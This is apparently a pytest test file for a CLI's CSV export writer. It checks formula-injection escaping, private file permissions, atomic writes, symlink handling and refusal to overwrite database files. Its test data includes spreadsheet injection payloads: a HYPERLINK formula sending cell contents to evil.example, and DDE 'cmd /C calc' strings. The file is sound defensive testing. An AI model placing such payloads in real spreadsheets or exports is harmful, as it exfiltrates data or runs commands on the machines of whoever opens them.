"""The one export writer: formula injection defused, files only the user can read, and a
write that is whole or not at all (issue 10, item 13)."""

from __future__ import annotations

import csv
import os
import stat
from pathlib import Path

import pytest

from click.testing import CliRunner
from sqlalchemy import func, select

from ffd_cli.main import cli
from ffd_core.exports import ExportFailed, cell, store_files, write_csv
from ffd_core.search.csv_import import ColumnMapping
from ffd_core.services import person_index
from ffd_core.services.context import SYSTEM
from ffd_core.store.people_tables import SourceRecordRow
from tests.conftest import AUDIT_KEY


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("value, written", [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Amy Smith", "Amy Smith"),
    ("O'Neill-Smith", "O'Neill-Smith"),
    ("-3.200", "-3.200"),  # a number is not a formula
    (-3.2, "-3.2"),
    (7, "7"),
    (None, ""),
])
def test_values_a_spreadsheet_would_run_are_defused(value, written):
    assert cell(value) == written


def test_the_file_is_private_even_under_a_permissive_umask(tmp_path):
    old = os.umask(0o000)
    try:
        path = tmp_path / "out.csv"
        assert write_csv(path, ["a", "b"], [["=1+1", 2], ["x", None]], keep=()) == 2
    finally:
        os.umask(old)
    assert mode(path) == 0o600
    assert read(path) == [["a", "b"], ["'=1+1", "2"], ["x", ""]]


def test_an_existing_wider_file_is_replaced_by_a_private_one(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("old\n")
    path.chmod(0o644)
    write_csv(path, ["a"], [["new"]], keep=())
    assert mode(path) == 0o600 and read(path) == [["a"], ["new"]]


def test_a_failure_part_way_leaves_the_old_file_whole_and_no_temporary_file(tmp_path):
    path = tmp_path / "out.csv"
    path.write_text("complete old export\n")

    def rows():  # noqa: ANN202
        yield ["one"]
        raise RuntimeError("the database went away")

    with pytest.raises(RuntimeError):
        write_csv(path, ["a"], rows(), keep=())
    assert path.read_text() == "complete old export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_a_symlink_at_the_target_is_replaced_not_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("do not touch\n")
    path = tmp_path / "out.csv"
    path.symlink_to(victim)
    write_csv(path, ["a"], [["b"]], keep=())
    assert victim.read_text() == "do not touch\n" and not path.is_symlink()


@pytest.mark.parametrize("make, words", [
    (lambda t: t / "missing" / "out.csv", "does not exist"),
    (lambda t: t, "is a folder; give a file name"),
    (lambda t: (t / "f.txt").write_text("x") and t / "f.txt" / "out.csv", "is a file, not a folder"),
])
def test_a_path_that_cannot_be_written_says_what_to_do(tmp_path, make, words):
    with pytest.raises(ExportFailed, match=words):
        write_csv(make(tmp_path), ["a"], [], keep=())


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_links_export_goes_through_the_writer(ctx, tmp_path):
    source = tmp_path / "records.csv"
    source.write_text("ID,FORENAME,SURNAME\n=cmd|' /C calc'!A0,Amy,Smith\n")
    mapping = ColumnMapping({"source_id": "ID", "given_name": "FORENAME", "family_name": "SURNAME"})
    person_index.import_csv(ctx, SYSTEM, source, source="framework_i", mapping=mapping)
    path = tmp_path / "links.csv"
    assert person_index.export_links(ctx, SYSTEM, path) == 1
    assert mode(path) == 0o600
    assert read(path)[1][:2] == ["framework_i", "'=cmd|' /C calc'!A0"]


def test_a_file_to_keep_is_never_replaced_however_it_is_named(tmp_path):
    kept = tmp_path / "ffd.sqlite"
    kept.write_bytes(b"SQLite format 3\x00")
    (tmp_path / "link.csv").symlink_to(kept)
    (tmp_path / "sub").mkdir()
    for target in (kept, tmp_path / "sub" / ".." / "ffd.sqlite", tmp_path / "link.csv"):
        with pytest.raises(ExportFailed, match="give another file name"):
            write_csv(target, ["a"], [["b"]], keep=[kept])
    # A companion that does not exist yet (SQLite may create it any time) is kept too.
    with pytest.raises(ExportFailed, match="give another file name"):
        write_csv(tmp_path / "ffd.sqlite-wal", ["a"], [], keep=[tmp_path / "ffd.sqlite-wal"])
    assert kept.read_bytes() == b"SQLite format 3\x00"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ffd.sqlite", "link.csv", "sub"]


def test_a_dash_is_refused_not_written_as_a_file_named_dash(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    with pytest.raises(ExportFailed, match="give a file name"):
        write_csv("-", ["a"], [], keep=())
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_the_store_and_the_commands_inputs_are_never_replaced_through_the_cli(ctx, database_url, monkeypatch,
                                                                               tmp_path):
    monkeypatch.setenv("FFD_DATABASE_URL", database_url)
    monkeypatch.setenv("FFD_AUDIT_KEY", AUDIT_KEY.decode())
    database = store_files(ctx.engine)[0]
    assert database.exists() and {p.name[len(database.name):] for p in store_files(ctx.engine)[1:]} == {
        "-wal", "-shm", "-journal"}
    source = tmp_path / "records.csv"
    source.write_text("ID,FORENAME,SURNAME\n1,Amy,Smith\n")
    mapping = tmp_path / "map.yaml"
    mapping.write_text("source_id: ID\ngiven_name: FORENAME\nfamily_name: SURNAME\n")
    run = CliRunner()

    def ffd(*args: str):  # noqa: ANN202
        return run.invoke(cli, list(args), catch_exceptions=False)

    imported = ffd("people", "import", "--source", "framework_i", "--map", str(mapping), str(source))
    assert imported.exit_code == 0, imported.output
    store_before = database.read_bytes()
    for target in (database, Path(f"{database}-wal"), Path(f"{database}-journal")):
        refused = ffd("people", "links", "export", str(target))
        assert refused.exit_code == 2 and "give another file name" in refused.output, refused.output
        assert "Traceback" not in refused.output and "Wrote" not in refused.output
    for kept in (source, mapping, database):
        refused = ffd("people", "import", "--source", "framework_i", "--map", str(mapping), str(source),
                      "--report", str(kept))
        assert refused.exit_code == 2 and "give another file name" in refused.output, refused.output
    assert source.read_text() == "ID,FORENAME,SURNAME\n1,Amy,Smith\n"
    assert mapping.read_text().startswith("source_id: ID")
    monkeypatch.chdir(tmp_path)
    dash = ffd("people", "links", "export", "-")
    assert dash.exit_code == 2 and "give a file name" in dash.output
    assert not (tmp_path / "-").exists()
    # The store is whole and still answers.
    assert database.read_bytes()[:16] == store_before[:16] == b"SQLite format 3\x00"
    with ctx.read() as session:
        assert session.scalar(select(func.count()).select_from(SourceRecordRow)) == 1
    assert ffd("people", "links", "export", str(tmp_path / "links.csv")).exit_code == 0
